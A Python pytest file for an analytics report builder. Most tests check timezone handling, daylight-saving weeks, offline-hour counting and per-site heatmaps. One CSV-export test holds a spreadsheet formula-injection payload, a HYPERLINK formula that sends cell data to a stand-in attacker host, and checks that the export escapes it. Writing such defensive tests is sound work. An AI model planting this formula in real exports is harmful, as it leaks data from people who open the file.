"""The report in the site's own time: like with like whatever the hour it is built, no hour not yet
lived counted as offline, local hours in the heatmap, formulas kept out of the CSV exports."""

from __future__ import annotations

import re
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import duckdb
import pandas as pd
import pytest

from batch.analytics.source import register_events
from batch.report.build import ReportOptions, build_report, write_report
from batch.report.data import iso
from moodlens.commands.report import period
from tests.batch.report.test_build import START, tiny_lake
from tests.schemas import events as samples
from tests.support.history import history
from tests.support.history import lake as history_lake

BERLIN = "Europe/Berlin"
HOUR_MS = 3_600_000


def _ms(text: str, zone: str = BERLIN) -> int:
    return int(datetime.fromisoformat(text).replace(tzinfo=ZoneInfo(zone)).timestamp() * 1000)


def _as_of(now_ms: int) -> tuple[duckdb.DuckDBPyConnection, int]:
    """What the lake holds at `now_ms`: the history's events until then."""
    events = [e for e in history().events if e["event_time_ms"] < now_ms]
    con = duckdb.connect()
    register_events(con, events)
    return con, max(e["event_time_ms"] for e in events)  # heartbeats too: a closed café still reports


def _visits(start_ms: int, end_ms: int) -> int:
    return sum(1 for e in history().events if e.get("kind") == "track_end" and start_ms <= e["event_time_ms"] < end_ms)


@pytest.mark.parametrize("clock", ["2026-10-03T09:00", "2026-10-03T13:00", "2026-10-03T21:00"])
def test_a_report_built_during_the_day_compares_complete_days_only(clock: str) -> None:
    now = _ms(clock)
    con, latest = _as_of(now)
    since, until, note = period("7d", None, latest, BERLIN, now)
    assert until == _ms("2026-10-03T00:00") and since == _ms("2026-09-26T00:00")  # today is left out
    assert "the last day, today, still running, is left out" in note
    report = build_report(con, ReportOptions(since, until, None, forecast=False, timezone=BERLIN, now_ms=now,
                                             period_note=note))
    headline = report.tables["headline"].iloc[0]
    # the truth, counted here from the events: the same at 09:00 and at 21:00, no false drop
    assert headline["visits"] == _visits(since, until)
    assert headline["visits_before"] == _visits(since - (until - since), since)
    assert "local time (Europe/Berlin)" in report.html and "still running, is left out" in report.html


def test_a_period_to_date_is_compared_with_the_same_elapsed_hours() -> None:
    now = _ms("2026-10-03T09:30")
    start, end, note = period("2026-10-03", "2026-10-04", None, BERLIN, now)
    assert (start, end) == (_ms("2026-10-03T00:00"), _ms("2026-10-03T09:00"))
    assert "same elapsed hours" in note


def test_a_history_that_ends_mid_day_is_reported_up_to_that_days_midnight() -> None:
    latest = _ms("2026-10-05T01:30")  # the data stops in the night: the 5th is not a day of data yet
    start, end, note = period("7d", None, latest, BERLIN, _ms("2026-12-07T13:00"))
    assert (start, end) == (_ms("2026-09-28T00:00"), _ms("2026-10-05T00:00"))
    assert "only partly in the data" in note
    start, end, note = period("7d", None, _ms("2026-10-04T23:10"), BERLIN, _ms("2026-12-07T13:00"))
    assert end == _ms("2026-10-05T00:00") and note.startswith("complete local days, compared")


def test_a_week_across_the_clock_change_is_seven_local_days() -> None:
    now = _ms("2026-10-28T12:00")
    start, end, _ = period("7d", None, now - HOUR_MS, BERLIN, now)
    assert (start, end) == (_ms("2026-10-21T00:00"), _ms("2026-10-28T00:00"))
    assert end - start == 7 * 24 * HOUR_MS + HOUR_MS  # 25 October has 25 hours


def test_a_week_to_date_across_the_clock_change_starts_at_the_same_local_hour() -> None:
    now = _ms("2026-10-28T10:30")
    start, end, note = period("7d", "2026-10-29", None, BERLIN, now)
    assert (start, end) == (_ms("2026-10-21T10:00"), _ms("2026-10-28T10:00"))
    assert end - start == 7 * 24 * HOUR_MS + HOUR_MS and "same elapsed hours" in note


def test_hours_not_lived_yet_are_never_offline() -> None:
    now = START + 11 * HOUR_MS + 30 * 60_000  # 11:30 on the tiny lake's day; camera a is silent from 10:00
    report = build_report(tiny_lake(), ReportOptions(START, START + 24 * HOUR_MS, "tiny", forecast=False,
                                                     now_ms=now))
    offline = report.tables["cameras"]
    hours = sorted(int((h - START) // HOUR_MS) for h in offline[offline["offline"]]["hour_ms"])
    assert hours == [10]  # 11:00 is still running, 12:00 has not come yet


def test_the_heatmap_and_the_tables_speak_local_time() -> None:
    report = build_report(tiny_lake(), ReportOptions(START, START + 24 * HOUR_MS, "tiny", forecast=False,
                                                     timezone="Asia/Tokyo"))
    heat = report.tables["heatmap"]
    busy = heat[heat["tracks"] > 0]
    local = datetime.fromtimestamp((START + 9 * HOUR_MS) / 1000, ZoneInfo("Asia/Tokyo"))
    assert busy[["weekday", "hour"]].values.tolist() == [[local.weekday(), local.hour]]  # 09:00 UTC = 18:00 JST
    assert report.tables["hourly"]["hour"].tolist() == [iso(START + 9 * HOUR_MS, "Asia/Tokyo")]
    assert "(Asia/Tokyo)" in report.html


def test_the_hour_that_happens_twice_is_told_apart() -> None:
    first, second = _ms("2026-10-25T00:00", "UTC"), _ms("2026-10-25T01:00", "UTC")
    assert iso(first, BERLIN) == "2026-10-25 02:00 (UTC+0200)"
    assert iso(second, BERLIN) == "2026-10-25 02:00 (UTC+0100)"
    assert iso(second + HOUR_MS, BERLIN) == "2026-10-25 03:00"


def test_formulas_never_reach_the_csv_exports(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    alarm = samples.sentiment_alarm(site_id="tiny", camera_id=None, event_time_ms=START + 9 * HOUR_MS + 2,
                                    reason=evil, event_id=samples.new_event_id(START + 9 * HOUR_MS + 2))
    report = build_report(tiny_lake((alarm,)), ReportOptions(START, START + 24 * HOUR_MS, "tiny", forecast=False))
    write_report(report, tmp_path)
    reasons = pd.read_csv(tmp_path / "alarms.csv")["reason"].tolist()
    assert "'" + evil in reasons and evil not in reasons
    assert not any(str(r).startswith(("=", "+", "-", "@")) for r in reasons)
    numbers = pd.read_csv(tmp_path / "hourly.csv")
    assert pd.api.types.is_numeric_dtype(numbers["net_score"])  # numbers stay numbers


def test_each_site_section_speaks_its_own_zone() -> None:
    h = history()
    sites = sorted(h.sites)
    zones = (("UTC", "Asia/Tokyo", "America/New_York") * 3)[:len(sites)]
    report = build_report(history_lake(), ReportOptions(h.end_ms - 7 * 24 * HOUR_MS, h.end_ms, None, forecast=False,
                                                        site_zones=tuple(zip(sites, zones, strict=True))))
    heat = report.tables["heatmap"]
    for site, zone in zip(sites, zones, strict=True):
        assert f"{site}: net score by weekday and hour ({zone})" in report.html
        hourly = report.tables["hourly"]
        rated = hourly[(hourly["site_id"] == site) & (hourly["tracks"] > 0)]["hour_ms"]
        expected = {(t.weekday(), t.hour) for t in (datetime.fromtimestamp(int(ms) / 1000, ZoneInfo(zone))
                                                      for ms in rated)}
        cells = heat[(heat["site_id"] == site) & (heat["tracks"] > 0)]
        assert {(int(d), int(h)) for d, h in cells[["weekday", "hour"]].values} == expected


def test_each_site_is_forecast_in_its_own_zone() -> None:
    from batch.analytics.forecast import ForecastConfig, forecast_site
    from batch.analytics.source import Period, hourly_sentiment

    h = history()
    sites = sorted(h.sites)
    zones = (("Asia/Tokyo", "America/New_York", "Europe/Berlin") * 3)[:len(sites)]
    report = build_report(history_lake(), ReportOptions(h.end_ms - 7 * 24 * HOUR_MS, h.end_ms, None,
                                                        site_zones=tuple(zip(sites, zones, strict=True))))
    hourly = hourly_sentiment(history_lake(), Period(0, h.end_ms, None))
    forecast = report.tables["forecast"]
    for site, zone in zip(sites, zones, strict=True):
        alone = forecast_site(site, hourly[hourly["site_id"] == site].drop(columns="site_id"), h.end_ms,
                              ForecastConfig(timezone=zone))
        assert alone.status == "ok"
        ours = forecast[forecast["site_id"] == site].drop(columns=["hour", "timezone"]).reset_index(drop=True)
        pd.testing.assert_frame_equal(ours, alone.forecast.reset_index(drop=True))
        if len(alone.anomalies):
            assert "<th>hour (" + zone + ")</th>" in report.html


def test_silent_cameras_are_listed_in_their_sites_own_time() -> None:
    h = history()
    silent = next(i for i in h.incidents if i.kind == "silent_camera")
    zones = ((silent.site_id, "Asia/Tokyo"),)
    report = build_report(history_lake(), ReportOptions(h.end_ms - 7 * 24 * HOUR_MS, h.end_ms, None, forecast=False,
                                                        site_zones=zones))
    span = report.tables["silent_cameras"]
    span = span[(span["site_id"] == silent.site_id) & (span["camera_id"] == silent.camera_id)].iloc[0]
    quality = report.html.split('<section id="quality">')[1]
    row = f"<td>{silent.site_id}/{silent.camera_id}</td><td>{iso(int(span['from_ms']), 'Asia/Tokyo')}</td>"
    assert row in quality
    assert "local time (Asia/Tokyo)" in quality


def test_csv_exports_give_each_row_its_sites_local_time(tmp_path: Path) -> None:
    h = history()
    sites = sorted(h.sites)
    zones = dict(zip(sites, (("Asia/Tokyo", "America/New_York", "UTC") * 3)[:len(sites)], strict=True))
    report = build_report(history_lake(), ReportOptions(h.end_ms - 7 * 24 * HOUR_MS, h.end_ms, None,
                                                        site_zones=tuple(zones.items())))
    write_report(report, tmp_path)
    for name, stamp, local in (("hourly", "hour_ms", "hour"), ("cameras", "hour_ms", "hour"),
                               ("alarms", "time_ms", "time"), ("forecast", "hour_ms", "hour")):
        rows = pd.read_csv(tmp_path / f"{name}.csv", keep_default_na=False)
        assert {local, "timezone"} <= set(rows.columns), name
        assert len(rows) or name == "alarms", name  # this history has no stream, so no alarm
        assert rows[local].tolist() == [iso(ms, zones[s]) for ms, s in zip(rows[stamp], rows["site_id"],
                                                                             strict=True)], name
        assert rows["timezone"].tolist() == [zones[s] for s in rows["site_id"]], name


def test_a_period_other_than_a_week_is_not_called_week_on_week() -> None:
    h = history()
    for days, compared, short in ((7, "week on week", "visits w/w"),
                                  (5, "against the 5 days before", "visits vs before"),
                                  (1, "against the day before", "visits vs before")):
        report = build_report(history_lake(), ReportOptions(h.end_ms - days * 24 * HOUR_MS, h.end_ms, None,
                                                            forecast=False))
        assert compared in report.html, days
        assert f"<th>{short}</th>" in report.html, days
        if days != 7:
            assert "week on week" not in report.html and "w/w" not in report.html, days


def test_the_day_marks_label_only_days_the_chart_shows() -> None:
    from batch.report import svg

    monday = _ms("2026-11-30T00:00")
    week = svg.line_chart(svg.Chart(monday, monday + 7 * 24 * HOUR_MS, -1.0, 1.0, "a week", "net score",
                                    [svg.Series("s", [(monday + HOUR_MS, 0.1)], "#000")], timezone=BERLIN))
    labels = re.findall(r'class="ax">(\w{3} \d\d \w{3})</text>', week)
    assert labels == ["Mon 30 Nov", "Tue 01 Dec", "Wed 02 Dec", "Thu 03 Dec", "Fri 04 Dec", "Sat 05 Dec",
                      "Sun 06 Dec"]  # not the next Monday, which starts where the chart ends
